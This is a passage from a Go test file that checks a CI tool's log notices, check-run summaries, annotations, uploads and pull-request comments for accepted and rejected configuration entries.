			for _, notice := range []string{configChanged, entryTooWeak} {
				if got := strings.Contains(r.log, notice); got != (notice == test.notice) {
					t.Errorf("the log tells that a configuration %q: %t", notice, got)
				}
			}
			if !test.accepted {
				r.checkBlocked(t, line)
				a.checkFailure(t, r, head, line)
				return
			}
			r.checkResult(t, 0, clean)
			for where, text := range map[string]string{"the log": r.log, "the summary": r.summary, "the check run": a.checkRun(t, head, "success").Summary} {
				checkContains(t, where, text, "tide-gauge", "behavior-chain", "sandbox-leak", reason)
			}
			if n := len(a.checkRun(t, head, "success").Annotations) + len(r.commands); n != 0 {
				t.Errorf("%d annotations", n)
			}
			r.checkBadResults(t, line, " accepted")
			a.checkUpload(t, r, head, headRef)
			if got := a.api.Comments(pullRequest); len(got) != 0 {
				t.Errorf("comments %+v", got)
			}
		})
	}
}
